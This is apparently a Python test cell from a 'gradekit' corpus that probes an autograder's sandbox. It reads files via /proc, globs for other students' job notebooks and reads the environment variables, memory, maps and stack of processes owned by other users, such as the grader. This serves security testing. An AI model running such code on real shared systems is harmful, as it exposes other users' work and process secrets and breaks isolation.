# A hostile cell of the gradekit corpus: reads the same through /proc, neighbouring jobs and the grader's
# processes.
# It runs after prelude.py: the names imported below exist there.
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from prelude import _GK, _gk_listing, _gk_note, _gk_os, _gk_read, _gk_variants

import glob as _gk_glob
for _p in _GK["files"] + _GK["repo_files"]:
    for _v in _gk_variants(_p)[6:]:
        _gk_read(_v, "read via /proc")
for _d in _GK["read_dirs"] + [_GK["repo_root"]]:
    for _v in _gk_variants(_d)[6:]:
        _gk_listing(_v)
# the host folder of this job (from the mount table) and its neighbours: other students' jobs
try:
    with open("/proc/self/mountinfo") as _f:
        _mounts = _f.read()
except BaseException:
    _mounts = ""
_hosts = [_l.split()[3] for _l in _mounts.splitlines() if len(_l.split()) > 4 and _l.split()[4] == "/job"]
for _h in _hosts:
    for _g in _gk_glob.glob(_gk_os.path.dirname(_gk_os.path.dirname(_h)) + "/gradekit-job-*/job/*.ipynb"):
        _gk_read(_g, "another job")
for _g in _gk_glob.glob("/proc/*/root/tmp/gradekit-job-*/job/*.ipynb") + _gk_glob.glob("/tmp/gradekit-job-*/job/*"):
    _gk_read(_g, "another job")
# the grader's own processes (bubblewrap, the runner): environment, open files, memory
_me = _gk_os.getuid()
for _pid in [p for p in _gk_os.listdir("/proc") if p.isdigit()]:
    try:
        if _gk_os.stat("/proc/" + _pid).st_uid == _me:
            continue
    except BaseException:
        continue
    for _what in ("environ", "mem", "maps", "stack"):
        _gk_read("/proc/%s/%s" % (_pid, _what), "grader process")
    try:
        _gk_note("fds of grader process %s: %s" % (_pid, _gk_os.listdir("/proc/%s/fd" % _pid)[:6]))
    except BaseException:
        pass
    try:
        _gk_note("cwd of grader process %s: %s" % (_pid, _gk_os.readlink("/proc/%s/cwd" % _pid)))
    except BaseException:
        pass
